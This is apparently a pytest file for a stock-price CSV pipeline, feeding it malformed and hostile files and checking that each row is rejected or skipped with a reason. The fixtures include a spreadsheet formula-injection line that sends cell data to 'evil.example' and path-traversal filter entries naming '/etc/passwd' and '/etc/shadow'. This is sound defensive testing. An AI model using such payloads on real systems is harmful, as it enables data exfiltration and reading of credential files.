"""Hostile input: every case gets a clear reject-with-reason or a clear error; nothing is lost.

The corpus is run file by file through the transform (the expected outcome of each), then all
together through the real pipeline next to the real sample files, where every row and file must
be accounted for.
"""

import csv
import gzip
import io

import pytest

from stock_assets.pipeline.companies import FilterFileError, parse_company_filter
from stock_assets.pipeline.transform import transform_file
from stock_assets.settings import FILTER_KEY, STOCKS_PREFIX
from stock_assets_tests.conftest import SAMPLE_FILTER, table_rows
from stock_assets_tests.test_pipeline import metadata, output_lines, run_job

H = b"Date,Open,High,Low,Close,Volume,OpenInt\n"
GOOD = b"2020-01-02,1.5,2.0,1.0,1.75,100,0\n"

# name → (bytes, rows expected in the output, reasons expected for rejected rows, skip reason)
CORPUS: dict[str, tuple[bytes, int, list[str], str | None]] = {
    "wrongheader.us.csv": (b"day,open,high\n2020-01-02,1,2\n", 0, [], "header is"),
    "noheader.us.csv": (GOOD * 3, 0, [], "header is"),
    "extracol.us.csv": (
        H + GOOD + b"2020-01-03,1,2,1,1,5,0,9\n",
        1,
        ["expected 7 fields, found 8"],
        None,
    ),
    "missingcol.us.csv": (
        H + GOOD + b"2020-01-03,1,2,1,1\n",
        1,
        ["expected 7 fields, found 5"],
        None,
    ),
    "nonnumeric.us.csv": (H + GOOD + b"2020-01-03,one,2,1,1,5,0\n", 1, ["Open is not"], None),
    "nan.us.csv": (
        H + b"2020-01-03,NaN,2,1,1,5,0\n2020-01-04,1,inf,1,1,5,0\n" + GOOD,
        1,
        ["Open is not", "High is not"],
        None,
    ),
    "baddates.us.csv": (
        H + b"2020-13-01,1,2,1,1,5,0\n2021-02-29,1,2,1,1,5,0\n03/01/2020,1,2,1,1,5,0\n" + GOOD,
        1,
        ["Date is not"] * 3,
        None,
    ),
    # Year 0 matches YYYY-MM-DD and Arrow parses it, but no calendar has it: Python's date and
    # PostgreSQL's (the typed view casts stock_date) refuse it.
    "yearzero.us.csv": (H + b"0000-01-02,1,2,1,1,5,0\n" + GOOD, 1, ["Date is not"], None),
    # One byte that is not UTF-8 costs its row only, not the file's other rows.
    "notutf8.us.csv": (
        H + b"2020-01-01,1,2,1,1,5,0\n2020-01-02,1\xff,2,1,1,5,0\n2020-01-03,1,2,1,1,5,\xe90\n",
        1,
        ["line is not UTF-8 text"] * 2,
        None,
    ),
    # A line a spreadsheet would run as a formula: rejected, and kept inert (see below).
    "formula.us.csv": (
        H + GOOD + b'=HYPERLINK("http://evil.example/?"&A1,"x"),1\n',
        1,
        ["expected 7 fields, found 3"],
        None,
    ),
    "hugevolume.us.csv": (
        H + GOOD + b"2020-01-03,1,2,1,1,99999999999999999999999,0\n",
        1,
        ["Volume is not"],
        None,
    ),
    # 19 digits fit an int64, but not the rule (18 digits as written): rejected on every path.
    "volume19.us.csv": (
        H + GOOD + b"2020-01-03,1,2,1,1,1000000000000000000,0\n",
        1,
        ["Volume is not"],
        None,
    ),
    "volumezeros.us.csv": (
        H + GOOD + b"2020-01-03,1,2,1,1,0000000000000000001,0\n",
        1,
        ["Volume is not"],
        None,
    ),
    "negvolume.us.csv": (H + GOOD + b"2020-01-03,1,2,1,1,-7,0\n", 1, ["Volume is not"], None),
    "bom.us.csv": (b"\xef\xbb\xbf" + H + GOOD, 1, [], None),
    "crlf.us.csv": (H.replace(b"\n", b"\r\n") + GOOD.replace(b"\n", b"\r\n"), 1, [], None),
    "garbage.us.csv": (bytes(range(256)) * 20, 0, [], "binary"),
    "gzipped.us.csv": (gzip.compress(H + GOOD), 0, [], "gzip"),
    "hugeline.us.csv": (H + GOOD + b"9" * 900_000 + b"\n", 1, ["expected 7 fields, found 1"], None),
    "dupwithin.us.csv": (H + GOOD + GOOD, 1, ["duplicate"], None),
    "dupacross.us.csv": (H + GOOD, 1, [], None),
    # Same company as dupacross.us.csv: its 2020-01-02 row is a cross-file duplicate (rejected
    # when the files are combined), so 1 of its 2 rows reaches the output.
    "dupacross.uk.csv": (H + GOOD + b"2020-01-05,2,2,2,2,2,0\n", 1, [], None),
    "empty.us.csv": (b"", 0, [], "empty"),
    "headeronly.us.csv": (H, 0, [], None),
}


@pytest.mark.parametrize("name", [n for n in CORPUS if n != "dupacross.uk.csv"])
def test_each_hostile_file_gets_its_expected_outcome(name):
    data, rows, reasons, skip = CORPUS[name]
    result = transform_file(name, data)
    assert result.rows_written == rows
    assert sorted(r.reason.split(":")[0] for r in result.rejected) == sorted(
        next(r.reason.split(":")[0] for r in result.rejected if r.reason.startswith(x))
        for x in reasons
    )
    assert (skip is None) == (result.skip_reason is None)
    if skip:
        assert skip in result.skip_reason
    assert result.rows_read == result.rows_written + len(result.rejected)
    assert all(len(r.raw) <= 500 for r in result.rejected)  # a huge line is kept, truncated


def test_the_whole_corpus_through_the_pipeline_loses_nothing(seeded_stack, s3_client, naming, db):
    for name, (data, *_rest) in CORPUS.items():
        s3_client.put_object(Bucket=naming.source_bucket, Key=f"{STOCKS_PREFIX}{name}", Body=data)
    names = ", ".join(f"'{n}'" for n in [*CORPUS, "notthere.us.csv"])
    filter_body = SAMPLE_FILTER.read_bytes().strip() + b", " + names.encode()
    s3_client.put_object(Bucket=naming.source_bucket, Key=FILTER_KEY, Body=filter_body)

    result = run_job()
    assert result.success
    meta = metadata(result, "historical_stock_data_csv")
    expected_rows = sum(rows for _, rows, _, _ in CORPUS.values())
    corpus_lines = [
        line
        for line in output_lines(s3_client, naming)
        if line.endswith(tuple(f",{n.split('.')[0]}" for n in CORPUS))
    ]
    assert len(corpus_lines) == expected_rows
    assert (
        meta["stock_assets/rows_read"]
        == meta["dagster/row_count"] + meta["stock_assets/rows_rejected"]
    )
    assert len(table_rows(db)) == meta["dagster/row_count"]

    prefix = f"Output/rejected/{result.run_id}/"

    def read(key):
        body = s3_client.get_object(Bucket=naming.source_bucket, Key=prefix + key)["Body"].read()
        return list(csv.DictReader(io.StringIO(body.decode())))

    rejected = read("rejected_rows.csv")
    assert (
        len(rejected)
        == meta["stock_assets/rows_rejected"]
        == sum(len(r) for _, _, r, _ in CORPUS.values()) + 1
    )
    assert all(r["reason"] for r in rejected)
    [formula] = [r for r in rejected if r["file_name"] == "formula.us.csv"]
    assert formula["raw_row"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x"),1'
    skipped = {r["file_name"]: r["reason"] for r in read("skipped_files.csv")}
    expected_skips = {n for n, (_, _, _, skip) in CORPUS.items() if skip} | {
        "notthere.us.csv",
        "bxg.us.csv",
    }
    assert set(skipped) == expected_skips
    assert "not found under Stocks/" in skipped["notthere.us.csv"]


@pytest.mark.parametrize(
    ("content", "files", "invalid"),
    [
        (b"'a.us.csv', 'a.us.csv', 'b.us.csv'", ["a.us.csv", "b.us.csv"], 0),
        (b"'../../etc/passwd', 'a.us.csv'", ["a.us.csv"], 1),
        (b"'/etc/shadow.csv', 'sub/dir.csv', 'a.us.csv'", ["a.us.csv"], 2),
        (b"'report.xlsx', 'a.us.csv', 'run.sh'", ["a.us.csv"], 2),
        (b"'a.us.csv', 'we ird.csv', 'caf\xc3\xa9.csv'", ["a.us.csv"], 2),
    ],
)
def test_hostile_filter_entries_are_refused_not_read(content, files, invalid):
    parsed = parse_company_filter(content)
    assert parsed.files == files
    assert len(parsed.invalid) == invalid


def test_a_5000_entry_filter_is_refused_with_a_clear_error():
    names = ", ".join(f"'c{i}.us.csv'" for i in range(5000)).encode()
    with pytest.raises(FilterFileError, match="5000 distinct files; the limit is 1000"):
        parse_company_filter(names)


@pytest.mark.parametrize("content", [b"\xff\xfe\x00b\x00a", b"a.csv\x00b.csv"])
def test_a_binary_filter_file_is_refused(content):
    with pytest.raises(FilterFileError):
        parse_company_filter(content)
